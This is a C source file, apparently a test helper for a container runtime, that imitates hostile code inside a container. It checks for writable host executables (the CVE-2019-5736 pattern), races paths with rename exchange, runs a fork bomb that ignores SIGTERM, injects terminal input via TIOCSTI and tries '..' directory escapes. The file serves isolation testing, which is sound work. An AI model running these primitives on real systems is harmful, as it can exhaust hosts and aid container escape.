/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker: what hostile code does inside (or beside) a container. It never destroys what it reaches: an open
 * for writing that succeeds is proof enough.
 *
 *   attacker exe SECONDS     hunt for a writable executable of a process that is not ours (CVE-2019-5736):
 *                            hold /proc/PID/exe of each stranger and try to open it for writing until the
 * end. Prints "ready", "found TARGET" and, when it succeeds, "WRITABLE TARGET" attacker swap A B exchange two
 * paths until killed (the racer's side of every mount race) attacker bomb            fork without end;
 * ignores SIGTERM attacker tiocsti         push a byte into stdin's terminal; prints what came of it attacker
 * climb DIR PATH  from DIR as working directory, look for PATH through "..": prints "ESCAPED" attacker stat
 * PATH...    prints "PATH TYPE MAJOR:MINOR WRITABLE" without following a last symlink
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

enum { MAX_HELD = 512 };

struct held {
	int fd;
	ino_t ino;
	char target[256];
	int told;
};

static int is_new(const struct held *held, int count, const struct stat *st)
{
	for (int i = 0; i < count; i++)
		if (held[i].ino == st->st_ino)
			return 0;
	return 1;
}

/* Takes hold of the executables that appeared; returns the new count. */
static int look(struct held *held, int count, ino_t own)
{
	DIR *proc = opendir("/proc");
	struct dirent *e;
	while (proc && (e = readdir(proc)) && count < MAX_HELD) {
		char path[300];
		struct stat st;
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || st.st_ino == own || !is_new(held, count, &st)) {
			close(fd);
			continue;
		}
		struct held *h = &held[count++];
		ssize_t n = readlink(path, h->target, sizeof(h->target) - 1);
		h->target[n < 0 ? 0 : n] = 0;
		h->fd = fd;
		h->ino = st.st_ino;
		h->told = 0;
		printf("found %s\n", h->target);
	}
	if (proc)
		closedir(proc);
	return count;
}

static int hunt(int seconds)
{
	static struct held held[MAX_HELD];
	struct stat self;
	int count = 0;
	time_t end = time(NULL) + seconds;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/proc/self/exe", &self) < 0)
		return 1;
	puts("ready");
	while (time(NULL) < end) {
		count = look(held, count, self.st_ino);
		for (int i = 0; i < count; i++) {
			char path[64];
			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
			int fd = held[i].told ? -1 : open(path, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			printf("WRITABLE %s\n", held[i].target);
			held[i].told = 1;
			close(fd);
		}
	}
	puts("done");
	return 0;
}

static void swap(const char *a, const char *b)
{
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT)
			exit(1);
}

static void bomb(void)
{
	signal(SIGTERM, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	for (;;)
		if (fork() < 0)
			usleep(1000);
}

static int push_byte(void)
{
	if (ioctl(0, TIOCSTI, "!") == 0)
		puts("PUSHED");
	else
		printf("refused: %s\n", strerror(errno));
	return 0;
}

static int climb(const char *dir, const char *path)
{
	char up[4096] = "";
	if (dir[0] && chdir(dir) < 0) {
		printf("no way in: %s\n", strerror(errno));
		return 0;
	}
	for (int i = 0; i < 32; i++) {
		char full[8192];
		snprintf(full, sizeof(full), "%s.%s", up, path);
		if (access(full, F_OK) == 0) {
			printf("ESCAPED by %s\n", full);
			return 0;
		}
		strncat(up, "../", sizeof(up) - strlen(up) - 1);
	}
	puts("inside");
	return 0;
}

static const char *kind(mode_t mode)
{
	return S_ISCHR(mode)	? "char"
	       : S_ISBLK(mode)	? "block"
	       : S_ISREG(mode)	? "file"
	       : S_ISDIR(mode)	? "dir"
	       : S_ISLNK(mode)	? "symlink"
	       : S_ISFIFO(mode) ? "fifo"
				: "socket";
}

static void tell(const char *path)
{
	struct stat st;
	if (lstat(path, &st) < 0) {
		printf("%s none\n", path);
		return;
	}
	int writable = !S_ISFIFO(st.st_mode) && access(path, W_OK) == 0;
	printf("%s %s %u:%u %s\n", path, kind(st.st_mode), major(st.st_rdev), minor(st.st_rdev),
	       writable ? "writable" : "readonly");
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";
	if (!strcmp(verb, "exe") && argc > 2)
		return hunt(atoi(argv[2]));
	if (!strcmp(verb, "swap") && argc > 3)
		swap(argv[2], argv[3]);
	if (!strcmp(verb, "bomb"))
		bomb();
	if (!strcmp(verb, "tiocsti"))
		return push_byte();
	if (!strcmp(verb, "climb") && argc > 3)
		return climb(argv[2], argv[3]);
	if (!strcmp(verb, "stat")) {
		for (int i = 2; i < argc; i++)
			tell(argv[i]);
		return 0;
	}
	fprintf(stderr, "attacker: unknown verb %s\n", verb);
	return 2;
}
